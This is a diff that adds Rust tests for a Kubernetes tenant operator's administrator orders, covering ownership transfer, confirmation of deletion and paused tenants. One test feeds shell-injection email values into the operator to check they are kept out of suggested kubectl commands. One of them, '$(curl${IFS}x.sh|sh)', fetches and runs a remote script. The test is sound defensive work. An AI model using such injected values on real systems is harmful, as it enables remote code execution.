@@ -1,6 +1,6 @@
 //! Administrators' orders: what each does, when it is refused, and what the history says.
 
-use serde_json::json;
+use serde_json::{Value, json};
 
 use super::{
     mishaps::settled,
@@ -13,7 +13,7 @@ use crate::{
         labels,
         record::{HistoryEvent, RecordPhase},
     },
-    tenant::child::Child,
+    tenant::{child::Child, orders::confirmation},
 };
 
 /// The last thing that the history says.
@@ -98,6 +98,37 @@ fn a_retained_tenant_is_handed_over_as_well() {
     assert_eq!((world.ready(), world.record_spec().incarnation), ((true, "Verified".into()), incarnation));
 }
 
+/// What another owner's Tenant of a kept name is told.
+fn told_to(owner: &Value) -> String {
+    let mut world = deleted("Retain");
+    world.make_tenant(&json!({ "owner": owner }));
+    world.settle();
+    assert_eq!(world.ready(), (false, "NameReserved".into()));
+    let status = world.status().expect("a status is told");
+    let ready = status.conditions.iter().find(|condition| condition.type_ == "Ready").expect("Ready is told");
+    ready.message.clone()
+}
+
+/// Whoever signs up chooses the text, and an administrator pastes the command.
+#[test]
+fn what_a_shell_would_read_as_its_own_is_in_no_command() {
+    for plain in ["mallory@example.com", "auth0|5f7c8ec7-c33c", "eu-west-1:b3_d.4+x"] {
+        let message = told_to(&json!({ "subject": plain, "email": "m@example.com" }));
+        let command = format!("kubectl annotate tenantrecord alice openclaw.io/transfer-to='{plain}'");
+        assert!(message.contains(&command), "{message}");
+    }
+    for hostile in
+        ["a'$(curl${IFS}x.sh|sh)'@x.co", "a`id`@x.co", "a\"b@x.co", "a;b@x.co", "a\\b@x.co", "m\u{fc}ller@x.co"]
+    {
+        for owner in [json!({ "email": hostile }), json!({ "subject": hostile, "email": "m@example.com" })] {
+            let message = told_to(&owner);
+            assert!(!message.contains(hostile) && !message.contains("transfer-to="), "{message}");
+            assert!(message.contains("kubectl edit tenantrecord alice"), "says what to do: {message}");
+            assert!(message.contains("openclaw.io/purge-now="), "{message}");
+        }
+    }
+}
+
 #[test]
 fn what_cannot_be_transferred_says_why() {
     assert_refused(&mut settled(), labels::TRANSFER_TO, "6f1c", "that owner's already");
@@ -164,4 +195,55 @@ fn a_confirmation_is_for_one_removal_and_not_for_the_next() {
     world.delete_tenant();
     world.pass(600);
     assert_eq!(world.ready(), (false, "DeletionHeld".into()));
+}
+
+/// What waits behind a stopped operator is about the removal that was looked at, and not about a later one.
+#[test]
+fn a_confirmation_that_names_a_beginning_is_for_that_removal_alone() {
+    let mut world = deleted("Delete");
+    let incarnation = world.record_spec().incarnation;
+    let begun = |world: &World| -> jiff::Timestamp {
+        let tenant = world.tenant.as_ref().expect("a Tenant that goes");
+        tenant["metadata"]["deletionTimestamp"].as_str().and_then(|at| at.parse().ok()).expect("a time")
+    };
+    let seen = begun(&world);
+    let value = confirmation(&incarnation, seen);
+    assert_eq!(value, format!("{incarnation}@{}", jiff::Timestamp::from_second(seen.as_second()).expect("a time")));
+    // Taken back, and deleted again with many others.
+    world.edit_tenant(|spec| spec["deletionPolicy"] = json!("Retain"));
+    world.settle();
+    world.make_tenant(&super::fixtures::spec_json());
+    world.edit_tenant(|spec| spec["deletionPolicy"] = json!("Delete"));
+    world.pass(3600);
+    world.delete_others(20);
+    world.delete_tenant();
+    world.settle();
+    assert_refused(&mut world, labels::CONFIRM_DELETION, &value, "look at it again");
+    assert_refused(&mut world, labels::CONFIRM_DELETION, &format!("{incarnation}@yesterday"), "no time");
+    assert_refused(&mut world, labels::CONFIRM_DELETION, &format!("0123456789@{seen}"), incarnation.as_str());
+    world.pass(600);
+    assert_eq!(world.ready(), (false, "DeletionHeld".into()));
+    let value = confirmation(&incarnation, begun(&world));
+    assert_eq!(ordered(&mut world, labels::CONFIRM_DELETION, &value).0, HistoryEvent::Ordered);
+    world.pass(61);
+    assert_eq!(world.phase(), RecordPhase::Purged);
+}
+
+/// A paused tenant's orders wait, and its status says so.
+#[test]
+fn an_order_for_a_paused_tenant_waits_and_is_told() {
+    let mut world = settled();
+    world.annotate_tenant(labels::PAUSED, "true");
+    world.settle();
+    assert_eq!(world.ready(), (true, "Paused".into()));
+    world.order(labels::TRANSFER_TO, "mallory");
+    world.settle();
+    let status = world.status().expect("a status is told");
+    let ready = status.conditions.iter().find(|condition| condition.type_ == "Ready").expect("Ready is told");
+    assert_eq!((ready.status.as_str(), ready.reason.as_str()), ("False", "Paused"));
+    assert!(ready.message.contains("order openclaw.io/transfer-to waits"), "{}", ready.message);
+    assert_eq!(world.record_spec().history, Vec::new(), "it waits");
+    world.annotate_tenant(labels::PAUSED, "false");
+    world.settle();
+    assert_eq!(said(&world).0, HistoryEvent::Transferred);
 }
